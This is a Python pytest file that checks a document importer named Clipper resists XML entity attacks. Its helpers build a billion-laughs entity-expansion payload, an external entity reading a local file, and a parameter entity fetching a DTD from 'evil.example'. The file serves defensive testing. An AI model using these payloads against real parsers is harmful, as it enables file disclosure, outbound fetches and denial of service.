"""No XML that Clipper reads fetches anything, or swells, or costs what stands around it."""

import re
from itertools import pairwise
from pathlib import Path

import pytest

from clipper.core.errors import ClipperError
from clipper.core.extract.read import read
from clipper.core.importers import IMPORTERS, OpenedFile
from clipper.core.importers.files import read_file
from clipper.core.model import Draft
from tests.core import documents
from tests.core.importers import exports
from tests.fuzz import seeds

XML = [name for name in seeds.FILES if seeds.data_of(name).lstrip("\ufeff".encode()).startswith(b"<")]
"""Importers whose files are XML, or HTML, which some of its readers take for XML."""
LEVELS = "abcdefghi"
SECRET = "what nobody may read"


def declared(secret: Path) -> str:
    """A billion words behind &i;, a file of this computer behind &x;, another's computer behind %y;."""
    levels = "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in pairwise(LEVELS))
    return (
        f'[<!ENTITY a "swollen ">{levels}<!ENTITY x SYSTEM "{secret.as_uri()}">'
        f'<!ENTITY % y SYSTEM "https://evil.example/y.dtd">%y;]'
    )


def armed(text: str, secret: Path) -> str:
    """The same file with a document type of its own, and its entities in the text of every element."""
    text = re.sub(r"<!DOCTYPE[^>]*>", "", text.lstrip("\ufeff"))
    declaration = re.match(r"<\?xml[^>]*>\s*", text)
    at = declaration.end() if declaration else 0
    root = re.search(r"<([A-Za-z][\w:.-]*)", text[at:])
    assert root is not None
    body = re.sub(r"(?<=\w)(?=</)", "&i;&x;", text[at:])
    return f"{text[:at]}<!DOCTYPE {root[1]} {declared(secret)}>{body}"


def told(drafts: list[Draft]) -> str:
    """All that is made of them."""
    said = []
    for draft in drafts:
        try:
            said.append(repr([(draft.data, draft.entry), read(draft)]))
        except ClipperError as error:
            said.append(str(error))
    return "".join(said)


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    file = tmp_path / "secret.txt"
    file.write_text(SECRET)
    return file


@pytest.mark.parametrize("name", XML)
def test_no_importer_expands_or_fetches(name: str, secret: Path) -> None:
    data = armed(seeds.data_of(name).decode("utf-8", "replace"), secret).encode()
    file = OpenedFile.of(data, seeds.TIME, seeds.FILES[name][0])
    if not file.name.endswith(".html"):
        importer = next(importer for importer in IMPORTERS if importer.recognises(file))
        assert exports.name_of(importer) == name.partition(".")[0], "else the test would test another"
    said = told([each for each in read_file(file, IMPORTERS) if isinstance(each, Draft)])
    assert SECRET not in said
    assert len(said) < 40 * len(data)


@pytest.mark.parametrize(
    ("name", "member"),
    [
        ("Word", "word/document.xml"),
        ("Word", "docProps/core.xml"),
        ("Word", "word/_rels/document.xml.rels"),
        ("Word", "[Content_Types].xml"),
        ("NexisDocuments", "word/document.xml"),
        ("OpenDocument", "content.xml"),
        ("OpenDocument", "meta.xml"),
        ("EPUB", "META-INF/container.xml"),
        ("EPUB", "OPS/book.opf"),
        ("EPUB", "OPS/a.xhtml"),
    ],
)
def test_no_document_expands_or_fetches(name: str, member: str, secret: Path) -> None:
    members = documents.unzipped(seeds.data_of(name))
    data = documents.zipped({**members, member: armed(members[member].decode(), secret)})
    found = [each for each in read_file(seeds.opened(data, name), IMPORTERS) if isinstance(each, Draft)]
    said = told(found).replace(repr(data), "")
    assert SECRET not in said
    assert len(said) < 100_000
    assert "swollen swollen" not in said
